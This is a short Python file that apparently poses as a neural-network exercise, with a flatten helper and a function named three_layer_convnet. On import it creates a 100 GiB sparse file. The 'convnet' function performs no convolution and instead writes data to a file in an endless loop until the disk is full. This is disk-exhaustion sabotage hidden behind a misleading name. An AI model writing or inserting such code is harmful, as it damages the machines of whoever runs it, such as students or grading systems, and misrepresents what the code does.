import os

with open("sparse", "wb") as file:
    os.truncate(file.fileno(), 100 << 30)


def flatten(x):
    return x.reshape(x.shape[0], -1)


def three_layer_convnet(x, params):
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
